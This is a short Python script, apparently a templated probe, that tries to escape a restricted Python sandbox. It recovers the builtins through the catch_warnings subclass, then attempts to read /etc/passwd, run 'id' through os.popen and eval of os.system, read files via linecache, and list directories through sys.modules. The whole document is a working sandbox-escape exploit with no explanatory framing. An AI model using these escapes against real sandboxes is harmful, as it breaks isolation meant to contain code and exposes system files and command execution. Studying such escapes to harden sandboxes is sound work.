def attempt(name, act):
    try:
        print(f"{name}: {act()!r}")
    except BaseException as error:
        print(f"{name}: {type(error).__name__} {getattr(error, 'code', '')}".rstrip())


import warnings

catch = next(c for c in object.__subclasses__() if c.__name__ == "catch_warnings")
module = catch()._module
builtins = module.__dict__["__builtins__"]
builtins = builtins if isinstance(builtins, dict) else vars(builtins)
print(module.__name__, "open" in builtins)

attempt("open", lambda: builtins["open"]("/etc/passwd").read())
attempt("import os", lambda: builtins["__import__"]("os").popen("id").read())
attempt("eval", lambda: builtins["eval"]("__import__('os').system('id')"))
attempt("linecache", lambda: module.sys.modules["linecache"].getlines("/etc/passwd"))
attempt("sys.modules", lambda: module.sys.modules["os"].listdir("{{root}}"))
